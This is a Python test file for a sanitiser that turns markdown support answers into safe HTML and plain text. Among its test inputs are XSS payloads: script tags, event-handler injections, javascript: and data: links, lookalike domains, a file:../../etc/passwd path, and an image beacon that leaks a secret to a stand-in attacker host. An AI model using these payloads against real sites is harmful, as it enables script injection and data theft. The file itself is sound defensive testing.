"""Answers are shown as safe HTML and as plain text, whatever stands in them."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wingbeat.knowledge.rules.fields import fields, fill
from wingbeat.knowledge.rules.markup import html, located, picture_ids, plain

PICTURE = "01890a5d-ac96-774b-bcce-b302099a8057"
ALLOWED = {
    "p": set(), "strong": set(), "em": set(), "s": set(), "code": set(), "pre": set(), "ul": set(), "ol": {"start"}, "li": set(),
    "blockquote": set(), "h3": set(), "h4": set(), "h5": set(), "h6": set(), "hr": set(), "br": set(), "table": set(),
    "thead": set(), "tbody": set(), "tr": set(), "th": set(), "td": set(), "a": {"href", "target", "rel"},
    "img": {"src", "alt", "loading"},
}  # fmt: skip


class Seen(HTMLParser):
    """What a browser would find in it."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.text = ""
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def is_harmless(shown: str) -> bool:
    return all(
        tag in ALLOWED
        and set(attributes) <= ALLOWED[tag]
        and re.match(r"https?://|mailto:|tel:|$", attributes.get("href") or "")
        and re.fullmatch(rf"|picture:{PICTURE}", attributes.get("src") or "")
        for tag, attributes in Seen(shown).tags
    )


@pytest.mark.parametrize(
    "canary",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](//evil.example)",
        "[x](https://shop.example@evil.example/)",
        "[x](https://аpple.com/)",
        "[x](https://xn--pple-43d.com/)",
        "[x](vbscript:msgbox(1))",
        "![x](javascript:alert(1))",
        "![secret](https://evil.example/p.gif?q=secret)",
        "![x](file:../../etc/passwd)",
        "![x](data:image/svg+xml,<svg onload=alert(1)>)",
        '![x" onerror="alert(1)](file:' + PICTURE + ")",
        "<javascript:alert(1)>",
        "[x]: javascript:alert(1)\n\n[x]",
        '<div style="position:fixed;inset:0">',
        "`</code><script>alert(1)</script>`",
        '```"><script>\n</pre><script>alert(1)</script>\n```',
        "| a |\n| - |\n| <b onclick=alert(1)> |",
        '{{order.number|<img src=x onerror="alert(1)">}}',
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        '![a](picture:x) src="picture:x',
    ],
)
def test_hostile_1_4_8_9_nothing_of_an_answer_runs_loads_or_leads_astray(canary: str) -> None:
    shown = html(canary)
    assert is_harmless(shown)
    assert not re.search(r"https?://(?!shop\.example/)", " ".join(re.findall(r'(?:src|href)="([^"]*)', shown)))
    assert is_harmless(fill(shown, {"order.number": canary}, "en", markup=True))


@given(st.text(st.sampled_from("<>[]()!`*_~|#-+1. \n\\\"'&;:/{}ax=@") | st.characters(), max_size=80))
def test_any_answer_is_shown_harmlessly(answer: str) -> None:
    assert is_harmless(html(answer))
    assert isinstance(plain(answer), str)


def test_an_answer_is_shown_with_its_shape() -> None:
    answer = (
        "## Returns\nWithin **30** days.\nTwo lines.\n\n1. Pack\n2. Send\n\n[Label](https://shop.example/r?a=1&b=2)"
    )
    assert html(answer) == (
        "<h4>Returns</h4>\n<p>Within <strong>30</strong> days.<br>\nTwo lines.</p>\n<ol><li>Pack</li><li>Send</li></ol>\n"
        '<p><a href="https://shop.example/r?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">Label</a></p>'
    )
    assert plain(answer) == (
        "Returns\nWithin 30 days.\nTwo lines.\n\n1. Pack\n2. Send\n\nLabel (https://shop.example/r?a=1&b=2)"
    )


@pytest.mark.parametrize(
    "text", ["打开“我的订单”。\n常见的状态：\n已付款：排队。", "a\n\nb", "- a\n- b\n\nc", "1. a\n2. b\nstill b"]
)
def test_a_plain_answer_stays_as_it_was_written(text: str) -> None:
    assert plain(text).replace("\n   ", "\n") == text


def test_a_picture_of_ours_is_found_and_put_where_the_reader_finds_it() -> None:
    answer = f"![A box](file:{PICTURE}) `![x](file:{PICTURE[:-1]}8)`"
    assert [str(one) for one in picture_ids(answer)] == [PICTURE]
    assert f'<img src="/here/{PICTURE}" alt="A box" loading="lazy">' in located(html(answer), "/here/")


def test_a_field_says_what_we_know_and_else_what_the_editor_or_we_say() -> None:
    answer = "{{order.number}}, {{ order.total | your_total_ }}, {{product.price:TB_01_x}}"
    assert [field.key for field in fields(answer)] == ["order.number", "order.total", "product.price:TB_01_x"]
    assert (
        fill(plain(answer), {"product.price:TB_01_x": "9.00 USD"}, "en") == "your order number, your_total_, 9.00 USD"
    )
    shown = fill(html(answer), {"order.number": "<b>1</b>", "order.total": "2 & 3"}, "zh-TW", markup=True)
    assert shown == "<p>&lt;b&gt;1&lt;/b&gt;, 2 &amp; 3, 商品頁上的價格</p>"
